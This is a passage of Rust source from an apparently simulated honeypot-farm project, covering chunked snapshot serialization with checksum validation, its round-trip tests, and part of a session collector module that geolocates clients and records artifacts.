        buf.extend_from_slice(&(list.len() as u32).to_le_bytes());
        for &v in list {
            buf.extend_from_slice(&v.to_le_bytes());
        }
    }
}

/// Append `rows` to `buf` in the fixed 48-byte on-disk layout: the buffer
/// is sized once, then filled through fixed-offset slice views over each
/// record — a flat memcpy-style pass with no per-field growth checks and
/// no steady-state allocation once the buffer has reached chunk capacity.
fn encode_row_chunk(rows: &[Row], buf: &mut Vec<u8>) {
    let start = buf.len();
    buf.resize(start + rows.len() * ROW_BYTES, 0);
    for (r, out) in rows.iter().zip(buf[start..].chunks_exact_mut(ROW_BYTES)) {
        out[0..4].copy_from_slice(&r.start_secs.to_le_bytes());
        out[4..8].copy_from_slice(&r.duration_secs.to_le_bytes());
        out[8..10].copy_from_slice(&r.honeypot.to_le_bytes());
        out[10..12].copy_from_slice(&r.client_port.to_le_bytes());
        out[12..16].copy_from_slice(&r.client_ip.to_le_bytes());
        out[16..20].copy_from_slice(&r.client_asn.to_le_bytes());
        out[20..22].copy_from_slice(&r.client_country.to_le_bytes());
        out[22] = r.protocol;
        out[23] = r.end_reason;
        out[24..28].copy_from_slice(&r.ssh_version_id.to_le_bytes());
        out[28..32].copy_from_slice(&r.login_list_id.to_le_bytes());
        out[32..36].copy_from_slice(&r.cmd_list_id.to_le_bytes());
        out[36..40].copy_from_slice(&r.uri_list_id.to_le_bytes());
        out[40..44].copy_from_slice(&r.hash_list_id.to_le_bytes());
        out[44..48].copy_from_slice(&r.dl_list_id.to_le_bytes());
    }
}

/// The chunk manifest of a rows section: the 16-byte prologue followed by
/// every per-chunk `[row count ‖ digest]` header, in order. These are
/// exactly the non-row-data payload bytes, and the section header's
/// checksum is the SHA-256 of this manifest (module docs).
///
/// This pass is hash-bound, so consecutive chunks are encoded into two
/// ping-pong buffers and digested as a pair through [`Sha256::digest_many`],
/// which routes to the interleaved two-buffer SHA-NI backend when the CPU
/// has one — close to twice the single-stream checksum rate.
fn rows_manifest(rows: &[Row], rows_per_chunk: u32) -> Vec<u8> {
    let n_chunks = rows.len().div_ceil(rows_per_chunk as usize);
    let mut manifest = Vec::with_capacity(ROWS_PROLOGUE_LEN + n_chunks * CHUNK_HEADER_LEN);
    manifest.extend_from_slice(&(rows.len() as u64).to_le_bytes());
    manifest.extend_from_slice(&rows_per_chunk.to_le_bytes());
    manifest.extend_from_slice(&(n_chunks as u32).to_le_bytes());
    let mut buf_a = Vec::new();
    let mut buf_b = Vec::new();
    let mut digests = Vec::with_capacity(2);
    let mut chunks = rows.chunks(rows_per_chunk as usize);
    while let Some(a) = chunks.next() {
        buf_a.clear();
        encode_row_chunk(a, &mut buf_a);
        digests.clear();
        let b = chunks.next();
        if let Some(b) = b {
            buf_b.clear();
            encode_row_chunk(b, &mut buf_b);
            Sha256::digest_many([buf_a.as_slice(), buf_b.as_slice()], &mut digests);
        } else {
            digests.push(Sha256::digest(&buf_a));
        }
        for (chunk, digest) in [Some(a), b].into_iter().flatten().zip(&digests) {
            manifest.extend_from_slice(&(chunk.len() as u32).to_le_bytes());
            manifest.extend_from_slice(&digest.0);
        }
    }
    manifest
}

/// Drive `f` over `(chunk_index, encoded_bytes)` for every chunk of `rows`.
/// Serial (one reused buffer) when overlap is off or there is at most one
/// chunk; otherwise a helper thread encodes chunk `k + 1` into a recycled
/// buffer while `f` — checksumming or file write-out — consumes chunk `k`.
/// Either way `f` sees identical bytes in identical order.
fn for_each_encoded_chunk(
    rows: &[Row],
    rows_per_chunk: u32,
    mut f: impl FnMut(usize, &[u8]) -> Result<(), SnapshotError>,
) -> Result<(), SnapshotError> {
    let size = rows_per_chunk as usize;
    if rows.len() <= size || overlap_disabled() {
        let mut buf = Vec::new();
        for (i, chunk) in rows.chunks(size).enumerate() {
            buf.clear();
            encode_row_chunk(chunk, &mut buf);
            f(i, &buf)?;
        }
        return Ok(());
    }
    std::thread::scope(|s| {
        let (full_tx, full_rx) = mpsc::sync_channel::<(usize, Vec<u8>)>(OVERLAP_DEPTH);
        let (free_tx, free_rx) = mpsc::channel::<Vec<u8>>();
        for _ in 0..OVERLAP_DEPTH {
            let _ = free_tx.send(Vec::new());
        }
        s.spawn(move || {
            for (i, chunk) in rows.chunks(size).enumerate() {
                let mut buf = free_rx.recv().unwrap_or_default();
                buf.clear();
                encode_row_chunk(chunk, &mut buf);
                if full_tx.send((i, buf)).is_err() {
                    return; // consumer bailed
                }
            }
        });
        let mut result = Ok(());
        while let Ok((i, buf)) = full_rx.recv() {
            result = f(i, &buf);
            if result.is_err() {
                break;
            }
            let _ = free_tx.send(buf);
        }
        // Dropping the channel ends unblocks the encoder if we bailed
        // early; the scope then joins it.
        result
    })
}

/// Write the framed rows section: header, prologue, then one chunk at a
/// time — peak memory is a couple of encoded chunks (3 MiB each) plus the
/// manifest, regardless of row count. Returns the payload length.
///
/// The manifest-first Merkle layout means every chunk digest must be known
/// before any row byte can be written, so checksumming cannot overlap the
/// write-out of the *same* pass. Instead each pass overlaps with encoding:
/// the digest pass pairs chunks through the multi-buffer hash backend
/// ([`rows_manifest`]), and the write pass encodes chunk `k + 1` on a
/// helper thread while chunk `k` drains to the file
/// ([`for_each_encoded_chunk`]).
fn write_rows_section<W: Write>(
    w: &mut W,
    id: u32,
    rows: &[Row],
    rows_per_chunk: u32,
) -> Result<u64, SnapshotError> {
    let manifest = rows_manifest(rows, rows_per_chunk);
    let payload_len = manifest.len() as u64 + rows.len() as u64 * ROW_BYTES as u64;
    w.write_all(&id.to_le_bytes())?;
    w.write_all(&payload_len.to_le_bytes())?;
    w.write_all(&Sha256::digest(&manifest).0)?;
    w.write_all(&manifest[..ROWS_PROLOGUE_LEN])?;
    for_each_encoded_chunk(rows, rows_per_chunk, |i, buf| {
        let h = ROWS_PROLOGUE_LEN + i * CHUNK_HEADER_LEN;
        w.write_all(&manifest[h..h + CHUNK_HEADER_LEN])?;
        w.write_all(buf)?;
        Ok(())
    })?;
    Ok(payload_len)
}

fn encode_tags(tags: &TagDb, buf: &mut Vec<u8>) {
    buf.extend_from_slice(&(tags.len() as u64).to_le_bytes());
    for (digest, entry) in tags.entries_sorted() {
        buf.extend_from_slice(&digest.0);
        buf.extend_from_slice(&(entry.tag.len() as u32).to_le_bytes());
        buf.extend_from_slice(entry.tag.as_bytes());
        buf.extend_from_slice(&(entry.campaign.len() as u32).to_le_bytes());
        buf.extend_from_slice(entry.campaign.as_bytes());
    }
}

// ---------------------------------------------------------------------------
// Section decoders, over an in-memory, checksum-verified payload.

/// Bounds-checked reader over one section payload. Overrunning the payload
/// means a length field inside it lies about the (checksum-verified) data,
/// so overruns surface as [`SnapshotError::Corrupt`].
struct Cursor<'a> {
    buf: &'a [u8],
    pos: usize,
    section: &'static str,
}

impl<'a> Cursor<'a> {
    fn new(buf: &'a [u8], section: &'static str) -> Self {
        Cursor {
            buf,
            pos: 0,
            section,
        }
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], SnapshotError> {
        let end = self.pos.checked_add(n).filter(|&e| e <= self.buf.len());
        match end {
            Some(end) => {
                let out = &self.buf[self.pos..end];
                self.pos = end;
                Ok(out)
            }
            None => Err(SnapshotError::Corrupt {
                section: self.section,
                detail: format!(
                    "length field overruns payload ({} of {} bytes consumed, {n} more wanted)",
                    self.pos,
                    self.buf.len()
                ),
            }),
        }
    }

    fn u8(&mut self) -> Result<u8, SnapshotError> {
        Ok(self.take(1)?[0])
    }

    fn u16(&mut self) -> Result<u16, SnapshotError> {
        Ok(u16::from_le_bytes(self.take(2)?.try_into().expect("len 2")))
    }

    fn u32(&mut self) -> Result<u32, SnapshotError> {
        Ok(u32::from_le_bytes(self.take(4)?.try_into().expect("len 4")))
    }

    fn u64(&mut self) -> Result<u64, SnapshotError> {
        Ok(u64::from_le_bytes(self.take(8)?.try_into().expect("len 8")))
    }

    fn digest(&mut self) -> Result<Digest, SnapshotError> {
        Ok(Digest(self.take(32)?.try_into().expect("len 32")))
    }

    fn str(&mut self) -> Result<&'a str, SnapshotError> {
        let len = self.u32()? as usize;
        let bytes = self.take(len)?;
        std::str::from_utf8(bytes).map_err(|e| SnapshotError::Corrupt {
            section: self.section,
            detail: format!("invalid utf-8 in string: {e}"),
        })
    }

    /// Every payload byte must be consumed; trailing garbage is corruption.
    fn finish(self) -> Result<(), SnapshotError> {
        if self.pos != self.buf.len() {
            return Err(SnapshotError::Corrupt {
                section: self.section,
                detail: format!(
                    "{} trailing bytes after section contents",
                    self.buf.len() - self.pos
                ),
            });
        }
        Ok(())
    }
}

fn decode_meta(cur: &mut Cursor<'_>) -> Result<DecodedMeta, SnapshotError> {
    let seed = cur.u64()?;
    let scale_volume = f64::from_bits(cur.u64()?);
    let scale_hashes = f64::from_bits(cur.u64()?);
    let days = cur.u32()?;
    let n_clients = cur.u64()?;
    let n_rows = cur.u64()?;
    Ok(DecodedMeta {
        public: SnapshotMeta {
            seed,
            scale_volume,
            scale_hashes,
            days,
            n_clients,
        },
        n_rows,
    })
}

fn decode_plan(cur: &mut Cursor<'_>) -> Result<FarmPlan, SnapshotError> {
    let n = cur.u32()? as usize;
    let mut nodes = Vec::with_capacity(n.min(1 << 16));
    for i in 0..n {
        let id = cur.u16()?;
        if id as usize != i {
            return Err(SnapshotError::Corrupt {
                section: "plan",
                detail: format!("node {i} carries id {id}; ids must be dense"),
            });
        }
        let ip = Ip4(cur.u32()?);
        let country = CountryId(cur.u16()?);
        let asn = Asn(cur.u32()?);
        let class_byte = cur.u8()?;
        let class =
            *NetworkClass::ALL
                .get(class_byte as usize)
                .ok_or_else(|| SnapshotError::Corrupt {
                    section: "plan",
                    detail: format!("node {i} has unknown network class {class_byte}"),
                })?;
        nodes.push(HoneypotNode {
            id,
            ip,
            country,
            asn,
            class,
        });
    }
    Ok(FarmPlan { nodes })
}

fn decode_string_pool(cur: &mut Cursor<'_>) -> Result<StringPool, SnapshotError> {
    let n = cur.u32()?;
    let mut pool = StringPool::new();
    for i in 0..n {
        let s = cur.str()?;
        if pool.intern(s) != i {
            return Err(SnapshotError::Corrupt {
                section: cur.section,
                detail: format!("duplicate pool entry at id {i}"),
            });
        }
    }
    Ok(pool)
}

fn decode_digest_pool(cur: &mut Cursor<'_>) -> Result<DigestPool, SnapshotError> {
    let n = cur.u32()?;
    let mut pool = DigestPool::new();
    for i in 0..n {
        let d = cur.digest()?;
        if pool.intern(d) != i {
            return Err(SnapshotError::Corrupt {
                section: "digests",
                detail: format!("duplicate digest at id {i}"),
            });
        }
    }
    Ok(pool)
}

fn decode_list_pool(cur: &mut Cursor<'_>) -> Result<ListPool, SnapshotError> {
    let n = cur.u32()?;
    if n == 0 {
        return Err(SnapshotError::Corrupt {
            section: "lists",
            detail: "list pool must contain at least the empty list".into(),
        });
    }
    let mut pool = ListPool::new(); // pre-interns [] as id 0
    let mut list = Vec::new();
    for i in 0..n {
        let len = cur.u32()? as usize;
        list.clear();
        for _ in 0..len {
            list.push(cur.u32()?);
        }
        if i == 0 {
            if !list.is_empty() {
                return Err(SnapshotError::Corrupt {
                    section: "lists",
                    detail: "list id 0 must be the empty list".into(),
                });
            }
            continue;
        }
        if pool.intern(&list) != i {
            return Err(SnapshotError::Corrupt {
                section: "lists",
                detail: format!("duplicate list at id {i}"),
            });
        }
    }
    Ok(pool)
}

/// Decode one checksum-verified chunk of `n` rows (exactly `n ×`
/// [`ROW_BYTES`] bytes) into `rows`, validating the per-row enum bytes.
/// Each row is read through fixed-offset views over its 48-byte record —
/// the mirror of [`encode_row_chunk`], with no per-field cursor.
fn decode_row_chunk(data: &[u8], n: usize, rows: &mut Vec<Row>) -> Result<(), SnapshotError> {
    #[inline]
    fn u16_at(raw: &[u8], at: usize) -> u16 {
        u16::from_le_bytes(raw[at..at + 2].try_into().expect("len 2"))
    }
    #[inline]
    fn u32_at(raw: &[u8], at: usize) -> u32 {
        u32::from_le_bytes(raw[at..at + 4].try_into().expect("len 4"))
    }
    if data.len() != n * ROW_BYTES {
        return Err(SnapshotError::Corrupt {
            section: "rows",
            detail: format!("chunk holds {} bytes for {n} rows", data.len()),
        });
    }
    rows.reserve(n);
    for raw in data.chunks_exact(ROW_BYTES) {
        let protocol = raw[22];
        let end_reason = raw[23];
        if protocol > 1 {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!("protocol byte {protocol} (0 = SSH, 1 = Telnet)"),
            });
        }
        if end_reason > 2 {
            return Err(SnapshotError::Corrupt {
                section: "rows",
                detail: format!("end_reason byte {end_reason} (0..=2)"),
            });
        }
        rows.push(Row {
            start_secs: u32_at(raw, 0),
            duration_secs: u32_at(raw, 4),
            honeypot: u16_at(raw, 8),
            client_port: u16_at(raw, 10),
            client_ip: u32_at(raw, 12),
            client_asn: u32_at(raw, 16),
            client_country: u16_at(raw, 20),
            protocol,
            end_reason,
            ssh_version_id: u32_at(raw, 24),
            login_list_id: u32_at(raw, 28),
            cmd_list_id: u32_at(raw, 32),
            uri_list_id: u32_at(raw, 36),
            hash_list_id: u32_at(raw, 40),
            dl_list_id: u32_at(raw, 44),
        });
    }
    Ok(())
}

fn decode_tags(cur: &mut Cursor<'_>) -> Result<TagDb, SnapshotError> {
    let n = cur.u64()?;
    let mut tags = TagDb::new();
    for _ in 0..n {
        let digest = cur.digest()?;
        let tag = cur.str()?;
        let campaign = cur.str()?;
        tags.record(digest, tag, campaign);
    }
    // `record` is first-wins, so a duplicate digest collapses and the
    // count betrays it.
    if tags.len() as u64 != n {
        return Err(SnapshotError::Corrupt {
            section: "tags",
            detail: format!("{n} entries declared, {} distinct digests", tags.len()),
        });
    }
    Ok(tags)
}

/// A plain `Vec<u64>` bitmap keyed by interned id. Ids beyond the domain
/// (i.e. dangling) fall outside the words and always test false — they are
/// never memoized, so the pool lookup still runs and reports them.
struct BitSet {
    words: Vec<u64>,
}

impl BitSet {
    fn for_ids(n: usize) -> BitSet {
        BitSet {
            words: vec![0; n.div_ceil(64)],
        }
    }

    /// Test the bit for `id`, setting it as a side effect; returns the
    /// previous value.
    fn test_and_set(&mut self, id: u32) -> bool {
        match self.words.get_mut(id as usize / 64) {
            Some(w) => {
                let mask = 1u64 << (id % 64);
                let seen = *w & mask != 0;
                *w |= mask;
                seen
            }
            None => false,
        }
    }
}

/// Memo of interned ids [`validate_rows`] has already walked. Rows repeat
/// list ids constantly (every failed-login session in a campaign shares a
/// handful of credential lists), so each distinct (role, id) pair is
/// validated once and afterwards answered with a bit test — amortized O(1)
/// per row instead of a pool walk per row. Sized to the pools at
/// [`SnapshotReader::open`]; zero allocations while streaming.
struct ValidationMemo {
    ssh: BitSet,
    login: BitSet,
    cmd: BitSet,
    uri: BitSet,
    /// Hash and download lists resolve against the same digest pool, so
    /// one memo serves both roles.
    digest: BitSet,
}

impl ValidationMemo {
    fn new(n_ssh_versions: usize, n_lists: usize) -> ValidationMemo {
        ValidationMemo {
            ssh: BitSet::for_ids(n_ssh_versions),
            login: BitSet::for_ids(n_lists),
            cmd: BitSet::for_ids(n_lists),
            uri: BitSet::for_ids(n_lists),
            digest: BitSet::for_ids(n_lists),
        }
    }
}

/// Check that every pool id a row references resolves — the "dangling
/// intern id" class of corruption a checksum cannot catch (a consistent
/// snapshot re-encoded with a hostile tool, or a bug in a foreign writer).
/// `memo` carries the already-validated ids across chunks.
fn validate_rows(
    rows: &[Row],
    store: &SessionStore,
    memo: &mut ValidationMemo,
) -> Result<(), SnapshotError> {
    let dangling = |kind, id| SnapshotError::DanglingId { kind, id };
    for row in rows {
        if row.ssh_version_id != NONE_ID
            && !memo.ssh.test_and_set(row.ssh_version_id)
            && store.ssh_versions.try_get(row.ssh_version_id).is_none()
        {
            return Err(dangling("ssh_version", row.ssh_version_id));
        }
        if !memo.login.test_and_set(row.login_list_id) {
            let list = store
                .lists
                .try_get(row.login_list_id)
                .ok_or_else(|| dangling("list", row.login_list_id))?;
            for &packed in list {
                if store.creds.try_get(packed >> 1).is_none() {
                    return Err(dangling("cred", packed >> 1));
                }
            }
        }
        if !memo.cmd.test_and_set(row.cmd_list_id) {
            let list = store
                .lists
                .try_get(row.cmd_list_id)
                .ok_or_else(|| dangling("list", row.cmd_list_id))?;
            for &packed in list {
                if store.commands.try_get(packed >> 1).is_none() {
                    return Err(dangling("command", packed >> 1));
                }
            }
        }
        if !memo.uri.test_and_set(row.uri_list_id) {
            let list = store
                .lists
                .try_get(row.uri_list_id)
                .ok_or_else(|| dangling("list", row.uri_list_id))?;
            for &id in list {
                if store.uris.try_get(id).is_none() {
                    return Err(dangling("uri", id));
                }
            }
        }
        for list_id in [row.hash_list_id, row.dl_list_id] {
            if !memo.digest.test_and_set(list_id) {
                let list = store
                    .lists
                    .try_get(list_id)
                    .ok_or_else(|| dangling("list", list_id))?;
                for &id in list {
                    if store.digests.try_get(id).is_none() {
                        return Err(dangling("digest", id));
                    }
                }
            }
        }
    }
    Ok(())
}

// ---------------------------------------------------------------------------
// Framed reads from the underlying stream. EOF here — unlike inside a
// checksummed payload — means the file itself was cut short: `Truncated`.

fn read_exact<R: Read>(
    r: &mut R,
    buf: &mut [u8],
    section: &'static str,
) -> Result<(), SnapshotError> {
    r.read_exact(buf).map_err(|e| {
        if e.kind() == io::ErrorKind::UnexpectedEof {
            SnapshotError::Truncated { section }
        } else {
            SnapshotError::Io(e)
        }
    })
}

fn read_array<R: Read, const N: usize>(
    r: &mut R,
    section: &'static str,
) -> Result<[u8; N], SnapshotError> {
    let mut buf = [0u8; N];
    read_exact(r, &mut buf, section)?;
    Ok(buf)
}

fn read_section<R: Read>(
    r: &mut R,
    expected_id: u32,
    name: &'static str,
) -> Result<Vec<u8>, SnapshotError> {
    let found = u32::from_le_bytes(read_array(r, name)?);
    if found != expected_id {
        return Err(SnapshotError::UnexpectedSection {
            expected: expected_id,
            found,
        });
    }
    let len = u64::from_le_bytes(read_array(r, name)?);
    let checksum: [u8; 32] = read_array(r, name)?;
    // Read through `take` in bounded chunks rather than pre-allocating
    // `len` bytes: a corrupted length field must yield `Truncated`, not a
    // giant allocation.
    let mut payload = Vec::with_capacity((len as usize).min(1 << 24));
    let got = r.take(len).read_to_end(&mut payload)?;
    if (got as u64) < len {
        return Err(SnapshotError::Truncated { section: name });
    }
    if Sha256::digest(&payload).0 != checksum {
        return Err(SnapshotError::ChecksumMismatch { section: name });
    }
    Ok(payload)
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_honeypot::{EndReason, LoginAttempt, SessionRecord};
    use hf_proto::creds::Credentials;
    use hf_proto::Protocol;
    use hf_shell::CommandRecord;

    fn sample_record(hp: u16, day: u32, n: u64) -> SessionRecord {
        SessionRecord {
            honeypot: hp,
            protocol: if n.is_multiple_of(2) {
                Protocol::Ssh
            } else {
                Protocol::Telnet
            },
            client_ip: Ip4::new(16, (n >> 8) as u8, n as u8, 1),
            client_port: 40000 + (n as u16 % 1000),
            start: SimInstant::from_day_and_secs(day, (n % 86_400) as u32),
            duration_secs: 10 + (n as u32 % 90),
            ended_by: EndReason::ClientClose,
            ssh_client_version: n
                .is_multiple_of(2)
                .then(|| format!("SSH-2.0-libssh{}", n % 3)),
            logins: vec![LoginAttempt {
                creds: Credentials::new("root", if n.is_multiple_of(3) { "1234" } else { "admin" }),
                accepted: n.is_multiple_of(3),
            }],
            commands: vec![CommandRecord {
                input: format!("echo {}", n % 5),
                known: true,
            }],
            uris: if n.is_multiple_of(4) {
                vec![format!("http://evil{}.example/x", n % 7)]
            } else {
                vec![]
            },
            file_hashes: vec![Sha256::digest(&(n % 11).to_le_bytes())],
            download_hashes: if n.is_multiple_of(5) {
                vec![Sha256::digest(&(n % 13).to_le_bytes())]
            } else {
                vec![]
            },
        }
    }

    fn sample_snapshot(n_sessions: u64) -> Snapshot {
        let mut store = SessionStore::new();
        let mut tags = TagDb::new();
        for n in 0..n_sessions {
            let rec = sample_record((n % 221) as u16, (n % 30) as u32, n);
            for h in rec.file_hashes.iter().chain(rec.download_hashes.iter()) {
                tags.record(*h, if n % 2 == 0 { "mirai" } else { "unknown" }, "H1");
            }
            store.ingest(&rec, None);
        }
        Snapshot {
            meta: SnapshotMeta {
                seed: 0x7e57,
                scale_volume: 0.0005,
                scale_hashes: 0.02,
                days: 30,
                n_clients: 42,
            },
            plan: FarmPlan::paper(),
            sessions: store,
            tags,
        }
    }

    fn roundtrip(snap: &Snapshot) -> Snapshot {
        let mut bytes = Vec::new();
        snap.write_to(&mut bytes).expect("write");
        Snapshot::read_from(&mut bytes.as_slice()).expect("read back")
    }

    #[test]
    fn roundtrip_preserves_everything() {
        let snap = sample_snapshot(200);
        let back = roundtrip(&snap);
        assert_eq!(back.meta, snap.meta);
        assert_eq!(back.plan, snap.plan);
        assert_eq!(back.sessions.rows(), snap.sessions.rows());
        let strings = |p: &StringPool| p.iter().map(|(_, s)| s.to_string()).collect::<Vec<_>>();
        assert_eq!(strings(&back.sessions.creds), strings(&snap.sessions.creds));
        assert_eq!(
            strings(&back.sessions.commands),
            strings(&snap.sessions.commands)
        );
        assert_eq!(strings(&back.sessions.uris), strings(&snap.sessions.uris));
        assert_eq!(
            strings(&back.sessions.ssh_versions),
            strings(&snap.sessions.ssh_versions)
        );
        assert_eq!(
            back.sessions.digests.iter().collect::<Vec<_>>(),
            snap.sessions.digests.iter().collect::<Vec<_>>()
        );
        assert_eq!(back.sessions.lists.len(), snap.sessions.lists.len());
        for (id, list) in snap.sessions.lists.iter() {
            assert_eq!(back.sessions.lists.get(id), list);
        }
        assert_eq!(back.tags.len(), snap.tags.len());
        for (h, e) in snap.tags.iter() {
            assert_eq!(back.tags.tag(h), Some(e.tag.as_str()));
            assert_eq!(back.tags.campaign(h), Some(e.campaign.as_str()));
        }
    }

    #[test]
    fn serialization_is_deterministic() {
        // Two writes of the same data — and a write of a reloaded copy —
        // are byte-identical (tags are sorted, pools are insertion-ordered).
        let snap = sample_snapshot(80);
        let mut a = Vec::new();
        let mut b = Vec::new();
        snap.write_to(&mut a).unwrap();
        snap.write_to(&mut b).unwrap();
        assert_eq!(a, b);
        let mut c = Vec::new();
        roundtrip(&snap).write_to(&mut c).unwrap();
        assert_eq!(a, c);
    }

    #[test]
    fn empty_run_roundtrips() {
        let snap = sample_snapshot(0);
        let back = roundtrip(&snap);
        assert!(back.sessions.is_empty());
        assert!(back.tags.is_empty());
        assert_eq!(back.plan.len(), 221);
    }

    #[test]
    fn rebuilt_artifacts_match_collector_replay() {
        use crate::collector::Collector;
        use hf_geo::{World, WorldConfig};

        let world = World::build(1, &WorldConfig::tiny());
        let mut col = Collector::new(&world, FarmPlan::paper());
        let mut store = SessionStore::new();
        for n in 0..50 {
            let rec = sample_record(0, (n % 5) as u32, n);
            col.ingest(&rec);
            store.ingest(&rec, None);
        }
        let ds = col.finish();
        let snap = Snapshot {
            meta: sample_snapshot(0).meta,
            plan: FarmPlan::paper(),
            sessions: store,
            tags: TagDb::new(),
        };
        let rebuilt = snap.rebuild_artifacts();
        assert_eq!(rebuilt.len(), ds.artifacts.len());
        for (h, meta) in ds.artifacts.iter() {
            let r = rebuilt.get(h).expect("hash present");
            assert_eq!(r.first_seen, meta.first_seen);
            assert_eq!(r.last_seen, meta.last_seen);
            assert_eq!(r.occurrences, meta.occurrences);
        }
    }

    #[test]
    fn write_rejects_nothing_at_normal_sizes() {
        let snap = sample_snapshot(10);
        let mut out = Vec::new();
        assert!(snap.write_to(&mut out).is_ok());
        assert_eq!(&out[..8], &MAGIC);
    }

    #[test]
    fn chunked_writes_roundtrip_at_every_chunk_shape() {
        // Odd and even chunk counts, a non-dividing remainder, and a
        // single chunk: together they exercise the writer's pairwise
        // digest batching (with and without an odd tail), the encode-ahead
        // write pass, and the reader's prefetch thread.
        let snap = sample_snapshot(100);
        for rows_per_chunk in [1u32, 3, 7, 50, 100, 1000] {
            let mut bytes = Vec::new();
            snap.write_to_chunked(&mut bytes, rows_per_chunk)
                .expect("write");
            let back = Snapshot::read_from(&mut bytes.as_slice()).expect("read back");
            assert_eq!(
                back.sessions.rows(),
                snap.sessions.rows(),
                "rows_per_chunk={rows_per_chunk}"
            );
            assert_eq!(back.tags.len(), snap.tags.len());
            assert_eq!(back.meta, snap.meta);
        }
    }

    #[test]
    fn chunked_serialization_is_deterministic() {
        // The overlapped write pass must emit the same bytes as any other
        // write of the same data — buffers rotate, output order must not.
        let snap = sample_snapshot(90);
        let mut a = Vec::new();
        let mut b = Vec::new();
        snap.write_to_chunked(&mut a, 7).unwrap();
        snap.write_to_chunked(&mut b, 7).unwrap();
        assert_eq!(a, b);
    }

    #[test]
    fn fold_chunks_visits_every_row_in_order() {
        let snap = sample_snapshot(64);
        let mut bytes = Vec::new();
        snap.write_to_chunked(&mut bytes, 5).expect("write");
        let reader = SnapshotReader::open(bytes.as_slice()).expect("open");
        let mut seen = Vec::new();
        let (meta, _plan, store, tags) = reader
            .fold_chunks(|store, _, rows| {
                // The pools are fully usable mid-stream.
                for row in rows {
                    assert!(store.lists.try_get(row.login_list_id).is_some());
                }
                seen.extend_from_slice(rows);
                Ok(())
            })
            .expect("fold");
        assert_eq!(seen, snap.sessions.rows());
        assert_eq!(meta, snap.meta);
        assert!(store.is_empty(), "fold hands rows only to the callback");
        assert_eq!(tags.len(), snap.tags.len());
    }

    #[test]
    fn fold_chunks_propagates_the_fold_error_and_stops() {
        let snap = sample_snapshot(64);
        let mut bytes = Vec::new();
        snap.write_to_chunked(&mut bytes, 4).expect("write");
        let reader = SnapshotReader::open(bytes.as_slice()).expect("open");
        let mut calls = 0u32;
        let err = reader
            .fold_chunks(|_, _, _| {
                calls += 1;
                if calls == 2 {
                    Err(SnapshotError::Corrupt {
                        section: "rows",
                        detail: "fold bailed".into(),
                    })
                } else {
                    Ok(())
                }
            })
            .expect_err("fold error must propagate");
        match err {
            SnapshotError::Corrupt { section, detail } => {
                assert_eq!(section, "rows");
                assert_eq!(detail, "fold bailed");
            }
            other => panic!("expected Corrupt, got {other:?}"),
        }
        assert_eq!(calls, 2, "the fold must stop at the first error");
    }
}
