//! The central collector: honeypots report session records; the collector
//! geolocates clients, maintains the artifact store, and produces the final
//! [`Dataset`] every analysis runs against.

use hf_geo::{Asn, CountryId, World};
use hf_honeypot::{ArtifactStore, SessionRecord};

use crate::deployment::FarmPlan;
use crate::store::SessionStore;

/// The collector's finished output: everything the paper's analyses need.
#[derive(Debug)]
pub struct Dataset {
    /// All sessions.
    pub sessions: SessionStore,
    /// Artifact metadata by hash.
    pub artifacts: ArtifactStore,
    /// The deployment that produced the data.
    pub plan: FarmPlan,
}

impl Dataset {
    /// Number of sessions.
    pub fn len(&self) -> usize {
        self.sessions.len()
    }

    /// Is the dataset empty?
    pub fn is_empty(&self) -> bool {
        self.sessions.is_empty()
    }
}

/// Ingest pipeline for session records. Owns a copy of the world's routing
/// view, like a real collector resolving client geography from its own
/// routing/geolocation snapshot.
pub struct Collector {
    world: World,
    plan: FarmPlan,
    store: SessionStore,
    artifacts: ArtifactStore,
}

impl Collector {
    /// New collector for a deployment, using `world` for client geolocation.
    pub fn new(world: &World, plan: FarmPlan) -> Self {
        Collector {
            world: world.clone(),
            plan,
            store: SessionStore::new(),
            artifacts: ArtifactStore::new(),
        }
    }

    /// Pre-allocate for an expected session count.
    pub fn with_capacity(world: &World, plan: FarmPlan, n: usize) -> Self {
        Collector {
            world: world.clone(),
            plan,
            store: SessionStore::with_capacity(n),
            artifacts: ArtifactStore::new(),
        }
    }

    /// Ingest one finished session.
    pub fn ingest(&mut self, rec: &SessionRecord) {
        let geo: Option<(CountryId, Asn)> = self
            .world
            .locate(rec.client_ip)
            .map(|info| (info.country, info.asn));
        let mut observations = 0u64;
        for h in rec.file_hashes.iter().chain(rec.download_hashes.iter()) {
            self.artifacts.observe_hash(*h, 0, rec.start);
            observations += 1;
        }
        self.store.ingest(rec, geo);
        hf_obs::counter!("farm.sessions_ingested", 1);
        hf_obs::counter!("farm.artifact_observations", observations);
    }

    /// Ingest a batch of finished sessions in slice order.
    ///
    /// Order matters: artifact `first_seen` and store row order follow
    /// ingest order, so callers merging per-worker outputs must concatenate
    /// them in plan order before calling this (see `hf-sim`'s parallel
    /// day execution).
    pub fn ingest_batch(&mut self, recs: &[SessionRecord]) {
        let _span = hf_obs::span!("farm.ingest_batch");
        hf_obs::observe!("farm.batch_sessions", recs.len());
        self.store.reserve(recs.len());
        for rec in recs {
            self.ingest(rec);
        }
    }

    /// The session store as ingested so far (fold-mode runs scan the
    /// current day's rows through this before retiring them).
    pub fn sessions(&self) -> &SessionStore {
        &self.store
    }

    /// The deployment plan this collector serves.
    pub fn plan(&self) -> &FarmPlan {
        &self.plan
    }

    /// Drop all buffered rows, keeping interning pools, artifacts, and row
    /// capacity. The out-of-core fold calls this after each completed day;
    /// [`Collector::finish`] then yields a row-free [`Dataset`] whose pools
    /// and artifact store still cover the whole run.
    pub fn retire_rows(&mut self) {
        self.store.retire_rows();
    }

    /// Sessions ingested so far.
    pub fn len(&self) -> usize {
        self.store.len()
    }

    /// Is the collector empty?
    pub fn is_empty(&self) -> bool {
        self.store.is_empty()
    }

    /// Finish, producing the dataset.
    pub fn finish(self) -> Dataset {
        Dataset {
            sessions: self.store,
            artifacts: self.artifacts,
            plan: self.plan,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use hf_geo::{Ip4, WorldConfig};
    use hf_hash::Sha256;
    use hf_honeypot::{EndReason, SessionRecord};
    use hf_proto::Protocol;
    use hf_simclock::SimInstant;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    fn rec(ip: Ip4, day: u32) -> SessionRecord {
        SessionRecord {
            honeypot: 0,
            protocol: Protocol::Ssh,
            client_ip: ip,
            client_port: 1,
            start: SimInstant::from_day_and_secs(day, 0),
            duration_secs: 5,
            ended_by: EndReason::ClientClose,
